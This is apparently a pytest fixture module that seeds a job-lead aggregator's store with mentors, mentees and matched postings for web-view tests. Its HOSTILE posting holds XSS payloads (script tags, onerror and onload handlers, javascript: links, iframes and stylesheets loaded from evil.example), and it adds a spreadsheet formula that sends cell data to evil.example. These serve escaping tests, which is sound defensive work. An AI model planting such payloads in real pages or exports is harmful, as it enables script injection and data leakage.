"""A store seeded for the web view's tests and benchmark: Maria's two mentees with matched
leads (the digest kit's plausible jobs, each seen on its company page and on a board), one
hostile posting, and Dev's mentee with leads of their own.

    config, store = seeded(tmp_path)            # SQLite beside the config
    config, store = seeded(tmp_path, database_url=url)  # or the database at url
"""

from __future__ import annotations

import shutil
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from digestkit import JOBS, NOW, make_posting

from aggregator.core.config import AppConfig, load_config
from aggregator.core.models import Match, MenteeProgress, Posting, SourceState
from aggregator.store import Store
from sources import option_models

LOCAL = "http://127.0.0.1:8080"
BESIDE = "sqlite:///leads.db"
CONFIG = """\
storage: {url: "sqlite:///leads.db"}
web: {base_url: "http://127.0.0.1:8080"}
mentors:
  - {id: maria, name: Maria Okafor, email: maria.okafor@example.org, timezone: Europe/Berlin}
  - {id: dev, name: Dev Raman, email: dev.raman@example.org}
mentees:
  - {name: Sam Lee, email: sam.lee@example.org, mentor: maria, skills: [python, django]}
  - {name: Alex Kim, email: alex.kim@example.org, mentor: maria, skills: [figma]}
  - {name: Priya Nair, email: priya@example.org, mentor: dev, skills: [kubernetes]}
sources:
  # Never fetched here: the tests store its events themselves (only a configured calendar's
  # events are suggested).
  - {name: meetups, type: ical, url: "http://127.0.0.1:9/meetups.ics"}
"""

# Text that would run script, load something or become markup if shown raw.
HOSTILE_TITLE = '<script>alert("title")</script>Staff Engineer <img src=x onerror=alert(1)>'
HOSTILE_COMPANY = "<style>body{background:url(http://evil.example/c.png)}</style>Evil Corp"
HOSTILE_DESCRIPTION = (
    '<img src="http://evil.example/pixel.gif" onerror="alert(2)">'
    '<a href="javascript:alert(3)">Apply</a>'
    "<iframe src=http://evil.example/frame></iframe>"
    '<link rel=stylesheet href="http://evil.example/x.css">'
    '<svg onload=alert(4)></svg> =HYPERLINK("http://evil.example") python django'
)
HOSTILE = Posting(
    source="careers",
    external_id="hostile-1",
    url="https://evil.example/jobs/1?next=javascript:alert(5)",
    title=HOSTILE_TITLE,
    company=HOSTILE_COMPANY,
    location='"><script>alert(6)</script>',
    remote=True,
    description_html=HOSTILE_DESCRIPTION,
    description_text=HOSTILE_DESCRIPTION,
)
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1)'

# Which jobs (indexes into digestkit.JOBS) each mentee is matched to.
SAM_JOBS = (0, 1, 4, 5, 8)
ALEX_JOBS = (1, 7)
PRIYA_JOBS = (3, 6)


def write_config(folder: Path, base_url: str = LOCAL, database_url: str = BESIDE) -> Path:
    """The tests' config.yaml in ``folder`` (by default its database beside it)."""
    path = folder / "config.yaml"
    text = CONFIG.replace(LOCAL, base_url).replace(BESIDE, database_url)
    path.write_text(text, encoding="utf-8")
    return path


def seeded(
    folder: Path, base_url: str = LOCAL, database_url: str = BESIDE
) -> tuple[AppConfig, Store]:
    """A config and its store, with every mentee's matches stored."""
    config = load_config(write_config(folder, base_url, database_url), option_models())
    store = Store(config.database_url)
    leads = seed(store)
    matches = {
        "sam-lee": [*(leads[JOBS[i].title] for i in SAM_JOBS), leads[HOSTILE_TITLE],
                    leads[FORMULA_TITLE]],
        "alex-kim": [leads[JOBS[i].title] for i in ALEX_JOBS],
        "priya-nair": [leads[JOBS[i].title] for i in PRIYA_JOBS],
    }  # fmt: skip
    save_matches(store, matches)
    return config, store


def seeded_folder(
    factory: pytest.TempPathFactory, base_url: str = LOCAL, database_url: str = BESIDE
) -> Path:
    """A folder with the seeded config and store, made once per test module (see copied)."""
    folder = factory.mktemp("seeded")
    seeded(folder, base_url, database_url)[1].close()
    return folder


def copied(
    template: Path, folder: Path, database_url: str | None = None
) -> tuple[AppConfig, Store]:
    """A copy of a seeded folder (seeding once per module is cheaper): the config, and the
    database beside it or, given ``database_url``, that copy of the template's database."""
    shutil.copytree(template, folder, dirs_exist_ok=True)
    path = folder / "config.yaml"
    if database_url is not None:
        seeded_url = load_config(path, option_models()).storage.url
        text = path.read_text(encoding="utf-8").replace(seeded_url, database_url)
        path.write_text(text, encoding="utf-8")
    config = load_config(path, option_models())
    return config, Store(config.database_url)


def seed(store: Store, extra: int = 0) -> dict[str, int]:
    """Store the jobs (company pages, then boards), the hostile posting and ``extra`` numbered
    copies of the jobs; lead id by title."""
    careers, boards = [], []
    for index, job in enumerate(JOBS):
        for variant in range(1 + extra // len(JOBS) if extra else 1):
            posted = NOW - timedelta(days=index + variant)
            posting = make_posting(job, posted_at=posted, variant=variant)
            if variant:  # another employer's opening, not a repost of the same job
                url = f"{posting.url}-{variant}" if posting.url else ""
                posting = replace(posting, company=f"{job.company} {variant}", url=url)
            if job.company_url:
                careers.append(posting)
            if job.board:
                boards.append(
                    Posting(
                        source=job.board[0],
                        external_id=f"{posting.external_id}-board",
                        url=f"{job.board[1]}-{variant}" if variant else job.board[1],
                        title=posting.title,
                        company=job.company,
                        location=job.location,
                        remote=job.remote,
                        posted_at=posted,
                        description_text=job.description,
                    )
                )
    careers += [HOSTILE, Posting("careers", "formula", "https://example.com/f", FORMULA_TITLE)]
    store.save_collected(SourceState(name="careers"), careers, NOW, company_page=True)
    for source in sorted({b.source for b in boards}):
        batch = [b for b in boards if b.source == source]
        store.save_collected(SourceState(name=source), batch, NOW)
    return {stored.posting.title: stored.lead_id for stored in store.lead_postings()}


def save_matches(store: Store, leads_of: dict[str, list[int]]) -> None:
    """Store each mentee's matches: scores falling from 0.6 in the order given."""
    results = []
    for mentee, lead_ids in leads_of.items():
        found = [
            Match(mentee, str(lead), round(0.6 - 0.5 * rank / max(len(lead_ids), 1), 4),
                  why=("python", "django"), gaps=("terraform",))
            for rank, lead in enumerate(lead_ids)
        ]  # fmt: skip
        progress = MenteeProgress(mentee, "profile", "model", max(lead_ids, default=0))
        results.append((progress, found))
    store.save_matches(results, NOW, replace_all=True)
